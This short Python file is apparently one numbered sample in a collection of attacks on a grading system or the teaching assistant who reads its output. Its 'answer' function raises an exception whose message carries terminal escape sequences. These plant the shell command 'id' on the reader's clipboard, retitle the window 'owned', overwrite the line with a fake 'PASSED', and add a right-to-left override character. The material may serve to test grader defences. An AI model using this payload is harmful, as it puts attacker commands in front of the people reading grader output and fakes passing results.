"""Raises an exception that writes to the TA's clipboard and title (attack 123)."""
def answer(*a, **k): raise ValueError('\x1b]52;c;aWQ=\x07\x1b]0;owned\x07\rPASSED \u202e')
